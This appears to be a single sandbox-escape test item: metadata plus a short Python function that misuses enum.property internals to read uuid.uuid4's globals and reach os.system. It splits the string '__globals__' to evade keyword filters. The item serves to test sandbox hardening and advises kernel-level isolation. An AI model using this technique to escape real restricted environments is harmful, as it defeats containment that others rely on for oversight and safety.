# title: Let an enumeration's property read attributes
# tries: Fills in the fields of an enum.property by hand: it then reads any attribute of any object, with the library's own getattr.
# impact: Integrity
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import enum
    import uuid

    reader = enum.property()
    reader.name = "__glo" + "bals__"
    reader._attr_type = "attr"
    reader._cls_type = uuid.uuid4
    return f"{reader.__get__(1)['os'].system} by an enumeration's property"
